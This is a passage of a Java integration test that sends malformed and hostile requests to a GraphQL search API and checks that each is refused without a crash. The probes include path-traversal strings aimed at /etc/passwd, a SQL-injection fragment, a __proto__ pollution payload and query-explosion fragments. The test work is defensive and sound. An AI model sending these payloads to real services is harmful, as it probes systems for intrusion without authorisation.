								+ "{ distanceMeters } }"),
						graphQlErrors()),
				neverSearched("withinKm: 1e308",
						graphQl("{ nearestAdviceCentres(near: { lat: 52.5, lon: 13.4 }, withinKm: 1e308) "
								+ "{ distanceMeters } }"),
						graphQlErrors()),
				neverSearched("clusters(zoom: 2147483647)",
						graphQl("{ adviceCentres(first: 1) { clusters(zoom: 2147483647) { count } } }"),
						graphQlErrors()),
				neverSearched("suggest(first: 21)",
						graphQl("{ suggest(prefix: \"Ber\", first: 21) { titles { text } } }"), graphQlErrors()));
	}

	@ParameterizedTest(name = "{0}")
	@MethodSource
	void badCursors(String name, Probe probe, Expected expected, boolean neverSearched) throws Exception {
		check(probe, expected, neverSearched);
	}

	static Stream<Arguments> badCursors() {
		byte[] random = new byte[48];
		new Random(42).nextBytes(random);
		return Stream.of(neverSearched("not base64", after("not a cursor!"), graphQlErrors()),
				neverSearched("random bytes in base64", after(Base64.getUrlEncoder().encodeToString(random)),
						graphQlErrors()),
				neverSearched("a 10 KB cursor", after("A".repeat(10 * 1024)), graphQlErrors()),
				neverSearched("an empty cursor", after(""), graphQlErrors()),
				neverSearched("padding and whitespace", after("  ====  "), graphQlErrors()),
				neverSearched("an empty JSON object", after(base64("{}")), graphQlErrors()),
				// Decodes to no cursor at all, which must be refused like any other.
				neverSearched("JSON null", after(base64("null")), graphQlErrors()),
				neverSearched("JSON nested 1,500 deep", after(base64("[".repeat(1500) + "]".repeat(1500))),
						graphQlErrors()),
				neverSearched("fields of the wrong types", after(base64("{\"f\":1,\"i\":\"x\",\"a\":\"y\"}")),
						graphQlErrors()),
				neverSearched("a cursor of a different search",
						after(base64("{\"f\":\"AAAAAAAAAAAA\",\"i\":[\"iq-other\"],\"a\":[1]}")), graphQlErrors()),
				neverSearched("a path in base64", after(base64("../../../../etc/passwd")), graphQlErrors()),
				neverSearched("a number instead of a string",
						graphQl("{ adviceCentres(first: 1, after: 5) { totalCount } }"), graphQlErrors()));
	}

	@ParameterizedTest(name = "{0}")
	@MethodSource
	void badEnumsAndVariables(String name, Probe probe, Expected expected, boolean neverSearched) throws Exception {
		check(probe, expected, neverSearched);
	}

	static Stream<Arguments> badEnumsAndVariables() {
		String sort = "query($s: SearchSort) { adviceCentres(first: 1, sort: $s) { totalCount } }";
		return Stream.of(neverSearched("an unknown sort", graphQl(argument("sort: SIDEWAYS")), graphQlErrors()),
				neverSearched("a sort as a string", graphQl(argument("sort: \"RELEVANCE\"")), graphQlErrors()),
				neverSearched("a sort in lower case", graphQl(argument("sort: relevance")), graphQlErrors()),
				neverSearched("$sort = \"SIDEWAYS\"", graphQl(sort, "{\"s\":\"SIDEWAYS\"}"), graphQlErrors()),
				neverSearched("$sort = 1", graphQl(sort, "{\"s\":1}"), graphQlErrors()),
				neverSearched("sort DISTANCE without near", graphQl(argument("sort: DISTANCE")), graphQlErrors()),
				neverSearched("sort START_DATE on advice centres", graphQl(argument("sort: START_DATE")),
						graphQlErrors()),
				neverSearched("an unknown federal state", graphQl(argument("filter: { federalStates: [DE_XX] }")),
						graphQlErrors()),
				neverSearched("an unknown content kind",
						graphQl("{ suggest(prefix: \"Ber\", kinds: [NOPE]) { titles { text } } }"), graphQlErrors()),
				neverSearched("an unknown facet",
						graphQl("{ adviceCentres(first: 1) { facets(fields: [NOPE]) { field } } }"), graphQlErrors()),
				neverSearched("a facet of another kind",
						graphQl("{ adviceCentres(first: 1) { facets(fields: [OFFER_TYPE]) { field } } }"),
						graphQlErrors()),
				neverSearched("an unknown language", graphQl(argument("language: \"xx\"")), graphQlErrors()),
				neverSearched("a 10 KB language", graphQl(argument("language: \"" + "d".repeat(10 * 1024) + "\"")),
						graphQlErrors()),
				neverSearched("a language filter with SQL", graphQl(argument("filter: { languages: [\"de'; --\"] }")),
						graphQlErrors()),
				neverSearched("an occupation filter with a path",
						graphQl(argument("filter: { occupations: [\"../../x\"] }")), graphQlErrors()),
				neverSearched("$first is an object",
						graphQl("query($f: Int) { adviceCentres(first: $f) { totalCount } }", "{\"f\":{\"a\":1}}"),
						graphQlErrors()),
				neverSearched("$flag = \"yes\"",
						graphQl("query($b: Boolean) { adviceCentres(first: 1, includeLocationIndependent: $b) "
								+ "{ totalCount } }", "{\"b\":\"yes\"}"),
						graphQlErrors()),
				neverSearched("null for a required variable",
						graphQl("query($f: Int!) { adviceCentres(first: $f) { totalCount } }", "{\"f\":null}"),
						graphQlErrors()),
				neverSearched("a String variable for an Int argument",
						graphQl("query($f: String) { adviceCentres(first: $f) { totalCount } }", "{\"f\":\"1\"}"),
						graphQlErrors()),
				neverSearched("an unknown input field",
						graphQl(argument("near: { point: { lat: 52.5, lon: 13.4, alt: 30 } }")), graphQlErrors()),
				neverSearched("an unknown input field in a variable",
						graphQl("query($n: NearInput) { adviceCentres(first: 1, near: $n) { totalCount } }",
								"{\"n\":{\"place\":\"Berlin\",\"__proto__\":{\"admin\":true}}}"),
						graphQlErrors()));
	}

	@ParameterizedTest(name = "{0}")
	@MethodSource
	void beyondTheFinder(String name, Probe probe, Expected expected, boolean neverSearched) throws Exception {
		check(probe, expected, neverSearched);
	}

	static Stream<Arguments> beyondTheFinder() {
		String pathway = "query($o: String!) { recognitionPathway(occupation: $o) { regulated "
				+ "bridgeCourses { totalCount } } }";
		return Stream.of(
				neverSearched("an occupation of 10 KB", graphQl(pathway, "{\"o\":\"" + "x".repeat(10 * 1024) + "\"}"),
						graphQlErrors()),
				neverSearched("an occupation of Arabic vowel marks only",
						graphQl(pathway, "{\"o\":\"" + "\u064e".repeat(50) + "\"}"), graphQlErrors()),
				neverSearched("an occupation of right-to-left overrides",
						graphQl(pathway, "{\"o\":\"\u202e\u202e\u202e\"}"), graphQlErrors()),
				neverSearched("a KldB code with a path", graphQl(pathway, "{\"o\":\"../81302\"}"), graphQlErrors()),
				neverSearched("a pathway near nowhere",
						graphQl("{ recognitionPathway(occupation: \"nurse\", near: { postalCode: \"00000\" }) "
								+ "{ regulated } }"),
						graphQlErrors()),
				neverSearched("openAt that is no time", graphQl(argument("filter: { openAt: \"25:99\" }")),
						graphQlErrors()),
				neverSearched("openAt of 10 KB",
						graphQl(argument("filter: { openAt: \"" + "9".repeat(10 * 1024) + "\" }")), graphQlErrors()),
				neverSearched("openAt in the year 999999999",
						graphQl(argument("filter: { openAt: \"+999999999-01-01T10:00\" }")), graphQlErrors()),
				neverSearched("startsFrom in the year 999999999", graphQl(
						"{ trainingOffers(first: 1, filter: { startsFrom: \"+999999999-01-01\" }) { totalCount } }"),
						graphQlErrors()),
				// The search runs; the field then says what is wrong with its argument.
				Arguments.of("isOpen at the year 999999999", graphQl(
						"{ adviceCentres(first: 1) { edges { node { isOpen(at: \"+999999999-01-01T10:00\") } } } }"),
						graphQlErrors(), false),
				neverSearched("openAt and openNow",
						graphQl(argument("filter: { openAt: \"2026-03-30T09:30\", openNow: true }")), graphQlErrors()),
				searched("text that is only an occupation in a right-to-left script", graphQl(
						"{ trainingOffers(text: \"\u0645\u0645\u0631\u0636\u0629\", first: 1) { totalCount } }")),
				searched("text naming every occupation at once", graphQl(
						"{ trainingOffers(text: \"nurse doctor pharmacist teacher midwife baker cook electrician\", first: 1) { totalCount } }")));
	}

	@ParameterizedTest(name = "{0}")
	@MethodSource
	void syncExportAndWebhooks(String name, Probe probe, Expected expected, boolean neverSearched) throws Exception {
		check(probe, expected, neverSearched);
	}

	/** Apps that keep a copy and editors who watch deliveries send these too. */
	static Stream<Arguments> syncExportAndWebhooks() {
		String sync = "query($t: String) { sync(kind: ADVICE_CENTRES, token: $t, first: 5) { token hasMore } }";
		byte[] random = new byte[64];
		new Random(23).nextBytes(random);
		String randomToken = Base64.getUrlEncoder().withoutPadding().encodeToString(random);
		String deliveries = "query($l: Int) { webhookDeliveries(last: $l) { eventId } }";
		return Stream.of(
				neverSearched("a sync token that is none", graphQl(sync, "{\"t\":\"not a token!\"}"), named("token")),
				neverSearched("a sync token of random bytes", graphQl(sync, "{\"t\":" + quote(randomToken) + "}"),
						named("token")),
				neverSearched("a sync token of random bytes with a signature's dot",
						graphQl(sync, "{\"t\":" + quote(randomToken + "." + randomToken) + "}"), named("token")),
				neverSearched("a 10 KB sync token", graphQl(sync, "{\"t\":" + quote("A".repeat(10 * 1024)) + "}"),
						named("token")),
				neverSearched("an empty sync token", graphQl(sync, "{\"t\":\"\"}"), named("token")),
				neverSearched("a sync token of dots and NULs", graphQl(sync, "{\"t\":\"..\\u0000..\"}"),
						named("token")),
				neverSearched("a sync token with a path", graphQl(sync, "{\"t\":\"../../etc/passwd\"}"),
						named("token")),
				neverSearched("a sync page of 0", graphQl("{ sync(kind: CURRICULA, first: 0) { token } }"),
						named("first")),
				neverSearched("a sync page of 501", graphQl("{ sync(kind: CURRICULA, first: 501) { token } }"),
						named("first")),
				neverSearched("a sync page of 2^31 - 1",
						graphQl("{ sync(kind: CURRICULA, first: 2147483647) { token } }"), named("first")),
				neverSearched("a sync page of -2^31",
						graphQl("{ sync(kind: CURRICULA, first: -2147483648) { token } }"), named("first")),
				neverSearched("a sync page beyond Int",
						graphQl("{ sync(kind: CURRICULA, first: 99999999999) { token } }"), named("first")),
				neverSearched("an unknown kind to sync", graphQl("{ sync(kind: RECIPES) { token } }"), named("kind")),
				neverSearched("a kind to sync as a string", graphQl("{ sync(kind: \"CURRICULA\") { token } }"),
						named("kind")),
				neverSearched("no kind to sync", graphQl("{ sync { token } }"), named("kind")),
				neverSearched("an unknown language to sync in",
						graphQl("{ sync(kind: CURRICULA, language: \"xx\") { token } }"), named("language")),
				neverSearched("webhook deliveries: last 0",
						graphQl(deliveries, "{\"l\":0}").with("Authorization",
								"Bearer " + ApiIntegrationTest.EDITOR_KEY),
						named("last")),
				neverSearched("webhook deliveries: last 201",
						graphQl(deliveries, "{\"l\":201}").with("Authorization",
								"Bearer " + ApiIntegrationTest.EDITOR_KEY),
						named("last")),
				neverSearched("webhook deliveries: last -2^31",
						graphQl(deliveries, "{\"l\":-2147483648}").with("Authorization",
								"Bearer " + ApiIntegrationTest.EDITOR_KEY),
						named("last")),
				neverSearched("an export of an unknown kind", export("/export/recipes.ndjson"), namedHttp("kind")),
				neverSearched("an export of a kind by its enum name", export("/export/ADVICE_CENTRES.ndjson"),
						namedHttp("kind")),
				neverSearched("an export of a 4 KB kind", export("/export/" + "k".repeat(4 * 1024) + ".ndjson"),
						namedHttp("kind")),
				neverSearched("an export of a kind with a space", export("/export/curricula%20.ndjson"),
						namedHttp("kind")),
				neverSearched("an export of a kind with a NUL", export("/export/curricula%00.ndjson"), httpStatus(400)),
				neverSearched("an export up the path", export("/export/..%2F..%2Fetc%2Fpasswd.ndjson"),
						httpStatus(400)));
	}

	/** A BAD_REQUEST that names the argument. */
	private static Expected named(String argument) {
		return new Expected(200, Shape.ERRORS, argument);
	}

	/** A 400 whose body names the argument. */
	private static Expected namedHttp(String argument) {
		return new Expected(400, Shape.HTTP, argument);
	}

	private static Probe export(String target) {
		return new Probe("GET", target, Map.of("Accept", "*/*", "Accept-Encoding", "gzip"), null, false);
	}

	@ParameterizedTest(name = "{0}")
	@MethodSource
	void getRequests(String name, Probe probe, Expected expected, boolean neverSearched) throws Exception {
		check(probe, expected, neverSearched);
	}

	static Stream<Arguments> getRequests() {
		String mutation = "mutation { reindex(kind: CURRICULA) { id } }";
		return Stream.of(neverSearched("a mutation", get("query", mutation), graphQlErrors(405)),
				neverSearched("a mutation picked by operationName",
						get("query", "query A " + SEARCH + " mutation B { reindex(kind: CURRICULA) { id } }",
								"operationName", "B"),
						graphQlErrors(405)),
				neverSearched("a query and a mutation without operationName",
						get("query", "query A " + SEARCH + " mutation B { reindex(kind: CURRICULA) { id } }"),
						graphQlErrors(405)),
				neverSearched("a subscription", get("query", "subscription { adviceCentres { totalCount } }"),
						graphQlErrors(405)),
				neverSearched("broken variables JSON", get("query", SEARCH, "variables", "{\"first\":"),
						graphQlErrors(400)),
				neverSearched("variables an array", get("query", SEARCH, "variables", "[1]"), graphQlErrors(400)),
				neverSearched("variables null for a required variable",
						get("query", "query($f: Int!) { adviceCentres(first: $f) { totalCount } }", "variables",
								"null"),
						graphQlErrors()),
				neverSearched("broken extensions JSON", get("query", SEARCH, "extensions", "{{"), graphQlErrors(400)),
				neverSearched("no query", get(), graphQlErrors(400)),
				neverSearched("a blank query", get("query", "   "), graphQlErrors(400)),
				neverSearched("a syntax error", get("query", "{ adviceCentres(first: 1) { totalCount }"),
						graphQlErrors()),
				neverSearched("a syntax error answered as application/graphql-response+json",
						get("query", "{ adviceCentres(first: 1) { totalCount }").with("Accept",
								"application/graphql-response+json"),
						graphQlErrors(400)),
				neverSearched("an unknown persisted-query hash",
						get("extensions",
								"{\"persistedQuery\":{\"version\":1,\"sha256Hash\":\"" + "a".repeat(64) + "\"}}"),
						graphQlErrors()),
				neverSearched("a persisted-query hash that does not match its document",
						get("query", SEARCH, "extensions",
								"{\"persistedQuery\":{\"version\":1,\"sha256Hash\":\"" + "a".repeat(64) + "\"}}"),
						graphQlErrors(400)),
				// The first of two query parameters counts; the second would search.
				neverSearched("two query parameters", get("query", "{ nope }", "query", SEARCH), graphQlErrors()),
				neverSearched("a NUL character in the query", get("query", SEARCH + "\0"), graphQlErrors()),
				// Tomcat refuses a request line over its 8 KB header limit.
				neverSearched("a 40 KB URL", get("query", SEARCH + "#" + "x".repeat(40 * 1024)), httpStatus(400)));
	}

	/**
	 * Sends the probe and checks the answer: never a 5xx, the expected status within two
	 * seconds, errors with messages, and no search when it should have been refused.
	 */
	private void check(Probe probe, Expected expected, boolean neverSearched) throws Exception {
		long searchesBefore = neverSearched ? searches() : 0;
		long started = System.nanoTime();
		HttpResponse<byte[]> response = send(probe);
		long millis = (System.nanoTime() - started) / 1_000_000;
		String text = new String(response.body(), StandardCharsets.UTF_8);
		String shown = (text.length() > 500) ? text.substring(0, 500) + "…" : text;
		assertThat(response.statusCode()).as("HTTP status of a %s; body: %s", probe, shown).isLessThan(500);
		assertThat(response.statusCode()).as("HTTP status of a %s; body: %s", probe, shown)
			.isEqualTo(expected.status());
		assertThat(millis).as("milliseconds to answer").isLessThan(2000);
		// Stateless: no session, and nothing from the request turned into a cookie.
		assertThat(response.headers().allValues("Set-Cookie")).isEmpty();
		boolean json = response.headers().firstValue("Content-Type").orElse("").contains("json");
		switch (expected.shape()) {
			case ERRORS -> {
				assertThat(json).as("a JSON answer: %s", shown).isTrue();
				JsonNode errors = JSON.readTree(text).path("errors");
				assertThat(errors.isArray() && !errors.isEmpty()).as("errors in %s", shown).isTrue();
				assertWellFormed(errors, shown);
				if (expected.argument() != null) {
					assertNamed(errors, expected.argument(), shown);
				}
			}
			case HTTP -> {
				if (expected.argument() != null) {
					assertThat(text).as("what names the argument").contains(expected.argument());
				}
				// The HTTP layer's own 4xx bodies are not GraphQL's; when they are, they
				// must be well formed too.
				if (json && JSON.readTree(text).path("errors").isArray()) {
					assertWellFormed(JSON.readTree(text).path("errors"), shown);
				}
			}
			case DATA -> {
				JsonNode body = JSON.readTree(text);
				assertThat(body.path("data").isObject()).as("data in %s", shown).isTrue();
				assertThat(body.has("errors")).as("errors in %s", shown).isFalse();
			}
			case SEARCH -> {
				JsonNode body = JSON.readTree(text);
				assertThat(body.has("data")).as("data in %s", shown).isTrue();
				if (body.has("errors")) {
					assertWellFormed(body.path("errors"), shown);
				}
				// Highlights are HTML-escaped; nothing typed comes back as markup.
				assertThat(text).doesNotContainIgnoringCase("<script").doesNotContainIgnoringCase("<img");
			}
		}
		if (neverSearched) {
			assertThat(searches()).as("searches run by Elasticsearch").isEqualTo(searchesBefore);
		}
	}

	/**
	 * Every error says something, and none is the server failing: an INTERNAL_ERROR is a
	 * crash on input, an UNAVAILABLE blames an outage on what the client sent.
	 */
	private static void assertWellFormed(JsonNode errors, String shown) {
		for (JsonNode error : errors) {
			assertThat(error.path("message").asText()).as("message of an error in %s", shown).isNotBlank();
			assertThat(error.at("/extensions/classification").asText()).as("classification in %s", shown)
				.isNotIn("INTERNAL_ERROR", "UNAVAILABLE");
		}
	}

	/**
	 * A refusal of the client's input that names what to fix: BAD_REQUEST (or GraphQL's
	 * own validation, which names the argument in its message).
	 */
	private static void assertNamed(JsonNode errors, String argument, String shown) {
		for (JsonNode error : errors) {
			assertThat(error.at("/extensions/classification").asText()).as("classification in %s", shown)
				.isIn("BAD_REQUEST", "ValidationError");
			boolean named = argument.equals(error.at("/extensions/argument").asText())
					|| error.path("message").asText().matches("(?s).*\\b" + argument + "\\b.*");
			assertThat(named).as("%s named in %s", argument, shown).isTrue();
		}
	}

	private HttpResponse<byte[]> send(Probe probe) throws IOException, InterruptedException {
		return this.http.send(probe.toRequest(this.port), BodyHandlers.ofByteArray());
	}

	private long searches() throws IOException {
		return SearchCount.of(this.elasticsearch, this.names);
	}

	private static Arguments neverSearched(String name, Probe probe, Expected expected) {
		return Arguments.of(name, probe, expected, true);
	}

	private static Arguments searched(String name, Probe probe) {
		return Arguments.of(name, probe, new Expected(200, Shape.SEARCH), false);
	}

	/** GraphQL errors with HTTP 200, as every application/json answer has them. */
	private static Expected graphQlErrors() {
		return graphQlErrors(200);
	}

	private static Expected graphQlErrors(int status) {
		return new Expected(status, Shape.ERRORS);
	}

	private static Expected httpStatus(int status) {
		return new Expected(status, Shape.HTTP);
	}

	/** Data without errors: the hostile part never reached GraphQL. */
	private static Expected answered() {
		return new Expected(200, Shape.DATA);
	}

	private static Probe post(String contentType, byte[] body) {
		Map<String, String> headers = new LinkedHashMap<>();
		if (contentType != null) {
			headers.put("Content-Type", contentType);
		}
		headers.put("Accept", "application/json");
		return new Probe("POST", "/graphql", headers, body, false);
	}

	private static Probe postJson(String json) {
		return postJson(utf8(json));
	}

	private static Probe postJson(byte[] json) {
		return post("application/json", json);
	}

	private static Probe graphQl(String document) {
		return postJson(body(document));
	}

	private static Probe graphQl(String document, String variables) {
		return postJson(body(document, variables));
	}

	private static Probe textSearch(String text) {
		return graphQl(TEXT_SEARCH, "{\"t\":" + quote(text) + "}");
	}

	/** A text search whose text has these raw bytes between an a and a b. */
	private static Probe textSearch(byte[] inTheMiddle) {
		return postJson(bytes("{\"query\":" + quote(TEXT_SEARCH) + ",\"variables\":{\"t\":\"a", inTheMiddle, "b\"}}"));
	}

	private static Probe after(String cursor) {
		return graphQl(AFTER, "{\"a\":" + quote(cursor) + "}");
	}

	/** A GET with the parameters given as name, value, name, value… */
	private static Probe get(String... parameters) {
		StringBuilder target = new StringBuilder("/graphql");
		for (int i = 0; i < parameters.length; i += 2) {
			target.append((i == 0) ? '?' : '&')
				.append(parameters[i])
				.append('=')
				.append(URLEncoder.encode(parameters[i + 1], StandardCharsets.UTF_8));
		}
		return new Probe("GET", target.toString(), Map.of("Accept", "application/json"), null, false);
	}

	private static String body(String document) {
		return "{\"query\":" + quote(document) + "}";
	}

	/** A request body with the variables as raw JSON, exactly as given. */
	private static String body(String document, String variables) {
		return "{\"query\":" + quote(document) + ",\"variables\":" + variables + "}";
	}

	private static String quote(String text) {
		try {
			return JSON.writeValueAsString(text);
		}
		catch (JsonProcessingException ex) {
			throw new IllegalStateException(ex);
		}
	}

	private static String base64(String text) {
		return Base64.getUrlEncoder().withoutPadding().encodeToString(utf8(text));
	}

	private static byte[] utf8(String text) {
		return text.getBytes(StandardCharsets.UTF_8);
	}

	private static byte[] raw(int... values) {
		byte[] bytes = new byte[values.length];
		for (int i = 0; i < values.length; i++) {
			bytes[i] = (byte) values[i];
		}
		return bytes;
	}

	/** Strings as UTF-8 and byte arrays as they are, one after the other. */
	private static byte[] bytes(Object... parts) {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		for (Object part : parts) {
			out.writeBytes((part instanceof byte[] raw) ? raw : utf8((String) part));
		}
		return out.toByteArray();
	}

	/** The pattern n times, each # replaced by its number. */
	private static String numbered(String pattern, int times) {
		return IntStream.rangeClosed(1, times)
			.mapToObj((i) -> pattern.replace("#", Integer.toString(i)))
			.collect(Collectors.joining(" "));
	}

	/** Fields nested this deep: { a { a { … } } }. */
	private static String nested(int depth) {
		return "{ " + "a { ".repeat(depth - 1) + "a" + " }".repeat(depth);
	}

	/** Advice centres selecting these fields on each node. */
	private static String centres(String selection) {
		return "{ adviceCentres(first: 1) { edges { node { " + selection + " } } } }";
	}

	private static String argument(String argument) {
		return "{ adviceCentres(first: 1, " + argument + ") { totalCount } }";
	}

	private static String firstIs(String literal) {
		return "{ adviceCentres(first: " + literal + ") { totalCount } }";
	}

	/**
	 * Advice centres through fragments that each spread the next one twice, so the last
	 * is selected 2^levels times.
	 */
	private static String doubling(int levels, String type, String directive, String leaf) {
		return doubling(centres("...F0"), levels, type, directive, leaf);
	}

	private static String doubling(String operation, int levels, String type, String directive, String leaf) {
		StringBuilder document = new StringBuilder(operation);
		for (int i = 0; i < levels; i++) {
			document.append(" fragment F")
				.append(i)
				.append(" on ")
				.append(type)
				.append(" { ...F")
				.append(i + 1)
				.append(directive)
				.append(" ...F")
				.append(i + 1)
				.append(directive)
				.append(" }");
		}
		return document.append(" fragment F")
			.append(levels)
			.append(" on ")
			.append(type)
			.append(" { ")
			.append(leaf)
			.append(" }")
			.toString();
	}

	/** The same at the root: 2^levels searches. */
	private static String doublingAtTheRoot(int levels) {
		return doubling("{ ...F0 }", levels, "Query", "", "adviceCentres(first: 1) { totalCount }");
	}

	/** Fragments that each spread the next ten times (inline, so the spreads differ). */
	private static String tenfold(int levels) {
		StringBuilder document = new StringBuilder(centres("...F0"));
		for (int i = 0; i < levels; i++) {
			document.append(" fragment F").append(i).append(" on AdviceCentre { ");
			for (int j = 0; j < 10; j++) {
				document.append("... on AdviceCentre { ...F").append(i + 1).append(" } ");
			}
			document.append("}");
		}
		return document.append(" fragment F").append(levels).append(" on AdviceCentre { slug }").toString();
	}

	/** What the API must answer. */
	enum Shape {

		/** GraphQL errors, each with a message. */
		ERRORS,

		/** A refusal by the HTTP layer, whose body need not be GraphQL's. */
		HTTP,

		/** Data and no errors: what made the request odd was ignored. */
		DATA,

		/** An ordinary search answer. */
		SEARCH

	}

	/**
	 * @param argument when set, the argument the refusal must name: a GraphQL error's
	 * {@code extensions.argument} or its message, an HTTP refusal's body
	 */
	record Expected(int status, Shape shape, String argument) {

		Expected(int status, Shape shape) {
			this(status, shape, null);
		}

		@Override
		public String toString() {
			return this.status + " " + this.shape + ((this.argument != null) ? " naming " + this.argument : "");
		}

	}

	/** One HTTP request, as raw as the JDK's client lets it be. */
	record Probe(String method, String target, Map<String, String> headers, byte[] body, boolean isChunked) {

		Probe with(String header, String value) {
			Map<String, String> changed = new LinkedHashMap<>(this.headers);
			changed.put(header, value);
			return new Probe(this.method, this.target, changed, this.body, this.isChunked);
		}

		Probe as(String otherMethod) {
			return new Probe(otherMethod, this.target, this.headers, this.body, this.isChunked);
		}

		/**
		 * Sent without a Content-Length, so the server learns its size only by reading.
		 */
		Probe chunked() {
			return new Probe(this.method, this.target, this.headers, this.body, true);
		}

		HttpRequest toRequest(int port) {
			HttpRequest.Builder request = HttpRequest.newBuilder(URI.create("http://localhost:" + port + this.target))
				.timeout(Duration.ofSeconds(10));
			this.headers.forEach(request::header);
			BodyPublisher body = (this.body == null) ? BodyPublishers.noBody()
					: this.isChunked ? BodyPublishers.ofInputStream(() -> new ByteArrayInputStream(this.body))
							: BodyPublishers.ofByteArray(this.body);
			return request.method(this.method, body).build();
		}

		@Override
		public String toString() {
			String target = (this.target.length() > 80) ? this.target.substring(0, 80) + "…" : this.target;
			return this.method + " " + target + ((this.body != null) ? " with " + this.body.length + " bytes" : "");
		}

	}

}
